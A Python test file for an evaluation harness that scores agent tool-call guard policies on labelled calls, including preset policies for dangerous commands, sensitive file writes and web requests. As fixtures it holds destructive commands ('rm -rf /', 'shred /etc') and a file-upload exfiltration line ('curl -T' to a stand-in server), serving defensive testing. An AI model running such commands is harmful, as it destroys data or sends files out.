"""The counting behind `make eval`, on calls of its own: the packages of the corpus are not needed."""

from pathlib import Path

import pytest
from rich.table import Table

from eval.own import own_calls
from eval.rates import Call, main, measure, rates_table, sources_table
from eval.sources import cases, commands_listed, commands_run, constants
from luthien_litellm_hooks import SimplePolicy, ToolCall

OWN = (
    "block_dangerous_commands",
    "block_sensitive_file_writes",
    "block_web_requests",
    "sql_protection",
    "protect_proxy",
    "protect_work",
)


class Guard(SimplePolicy):
    """Drops calls that delete, and takes a key out of those that hold one."""

    async def on_response_tool_call(self, tool_call: ToolCall, request: str) -> ToolCall | None:
        if "rm -rf" in tool_call.arguments:
            return None
        arguments = tool_call.arguments.replace("sk-123", "***")
        return ToolCall(tool_call.id, tool_call.name, arguments)


class Fails(SimplePolicy):
    """Fails on every call."""

    async def on_response_tool_call(self, tool_call: ToolCall, request: str) -> ToolCall | None:
        raise ValueError("no")


def call(arguments: str, source: str = "tests", **labels: bool) -> Call:
    return Call(id=f"{source}: {arguments}", source=source, tool="bash", arguments=arguments, labels=labels)


def cells(table: Table) -> list[list[str]]:
    """A table's rows, without its head."""
    columns = [list(column.cells) for column in table.columns]
    return [list(row) for row in zip(*columns, strict=True)]


async def test_a_dropped_call_and_a_changed_call_count_as_acted_on() -> None:
    dropped = call('{"command": "rm -rf /"}', guard=True)
    changed = call('{"command": "echo sk-123"}', guard=True)
    missed = call('{"command": "shred /etc"}', guard=True)
    measurement = await measure("guard", Guard(), [dropped, changed, missed])
    assert measurement.should_act.hits == [dropped, changed]
    assert measurement.should_act.misses == [missed]
    assert measurement.should_pass.total == measurement.not_counted.total == 0


async def test_a_call_without_a_label_for_the_preset_is_in_neither_rate() -> None:
    passed = call("{}", guard=False)
    alarm = call('{"command": "rm -rf build"}', guard=False)
    of_another = call('{"command": "rm -rf /"}', other=True)
    measurement = await measure("guard", Guard(), [passed, alarm, of_another])
    assert (measurement.should_pass.misses, measurement.should_pass.hits) == ([passed], [alarm])
    assert measurement.not_counted.hits == [of_another]
    assert measurement.should_act.total == 0


async def test_a_rate_of_nothing_is_no_number() -> None:
    measurement = await measure("guard", Guard(), [call("{}", guard=False), call("{ }", guard=False)])
    assert cells(rates_table({"guard": measurement})) == [
        ["guard", "0", "no items", "2", "0.0% [0.0%, 65.8%]", "0", "0"]
    ]


async def test_false_positives_are_told_by_source() -> None:
    calls = [
        call('{"command": "rm -rf build"}', source="a", guard=False),
        call("{}", source="a", guard=False),
        call("{}", source="b", guard=False),
        call("{}", source="c", guard=True),
    ]
    measurement = await measure("guard", Guard(), calls)
    assert cells(sources_table({"guard": measurement})) == [["a", "1 of 2"], ["b", "0 of 1"]]


async def test_a_policy_that_fails_is_not_measured() -> None:
    with pytest.raises(RuntimeError, match=r"^Fails failed on tests: \{\}$"):
        await measure("fails", Fails(), [call("{}", fails=True)])


def test_the_command_measures_the_presets_that_the_corpus_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text("\n".join(line.model_dump_json() for line in (call("{}", noop=True), call("[]", noop=False))))
    main([str(corpus), "--verbose"])
    out = capsys.readouterr().out
    assert "2 tool calls" in out
    assert "| noop   | 1          | 0.0% [0.0%, 79.3%] | 1           | 0.0% [0.0%, 79.3%] | 0" in out
    assert "noop: missed: tests: {}: bash {}" in out
    assert "false positive: " not in out


def test_the_commands_that_a_source_runs_are_read_where_they_are_literals() -> None:
    source = """
def test(tmp_path):
    subprocess.run(["rm", "-rf", "a dir"], check=True)
    subprocess.run(["echo hi | cat"], shell=True)
    os.system("ls")
    subprocess.run(["cat", str(tmp_path)])
    subprocess.run(command)
    print("no command")
"""
    assert list(commands_run(source)) == ["rm -rf 'a dir'", "echo hi | cat", "ls"]
    assert list(commands_run("def no python")) == []


def test_lists_of_commands_are_told_by_their_function() -> None:
    source = "commands = ['a']\nother = ['b']\ndef test():\n    commands = ['c', 'd']\n"
    assert commands_listed(source) == {"": ["a"], "test": ["c", "d"]}


def test_the_commands_of_test_cases_are_put_together_from_constants() -> None:
    names = constants(["URL = 'http://server/x'\nNUMBER = 1", "FILE = 'y'"])
    assert names == {"URL": "http://server/x", "FILE": "y"}
    source = "cases = [('steal', f'curl -T {FILE} {URL}', 1, 'why'), ('plain', 'ls', 1, 'why')]"
    assert list(cases(source, names)) == [("steal", "curl -T y http://server/x")]
    with pytest.raises(KeyError):
        list(cases(source, {}))


def test_each_preset_has_own_calls_to_stop_and_to_pass() -> None:
    calls = [Call.model_validate(each) for each in own_calls()]
    assert len({call.id for call in calls}) == len(calls) > 5_000
    assert all(len(call.labels) == 1 for call in calls)
    labelled = {label for call in calls for label in call.labels.items()}
    assert labelled == {(name, is_harmful) for name in OWN for is_harmful in (True, False)}


def test_a_corpus_in_which_each_call_has_one_label_is_measured_by_that_preset_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    corpus = tmp_path / "own.jsonl"
    corpus.write_text("\n".join(line.model_dump_json() for line in (call("{}", noop=True), call("[]", all_caps=False))))
    main([str(corpus)])
    out = capsys.readouterr().out
    assert "2 tool calls in own.jsonl" in out
    assert [row.split("|")[-3].strip() for row in out.splitlines() if row.startswith(("| noop", "| all_caps"))] == [
        "0"
    ] * 2
